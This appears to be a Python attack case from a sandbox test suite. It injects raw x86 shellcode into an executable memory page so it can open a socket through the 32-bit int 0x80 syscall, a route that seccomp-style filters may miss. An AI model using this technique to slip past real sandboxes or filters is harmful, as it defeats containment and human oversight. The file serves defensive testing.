"""Makes a socket by the system calls of 32-bit programs, whose numbers the filters might not know."""

from __future__ import annotations

import ctypes
import mmap
import os
from typing import Any

from tests.lab.attacks.programs.inside import in_child

# eax = 359 (socket), ebx = 2 (AF_INET), ecx = 1 (SOCK_STREAM), edx = 0, int 0x80; what rbx held is put back.
MACHINE_CODE = bytes.fromhex("53 b8 67010000 bb 02000000 b9 01000000 31d2 cd80 5b c3")


def attack(world: dict[str, Any]) -> str:
    if os.uname().machine != "x86_64":
        return ""
    return str(in_child(socket_by_hand))


def socket_by_hand() -> str:
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(MACHINE_CODE)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    made = function()
    return f"socket {made}" if made >= 0 else ""
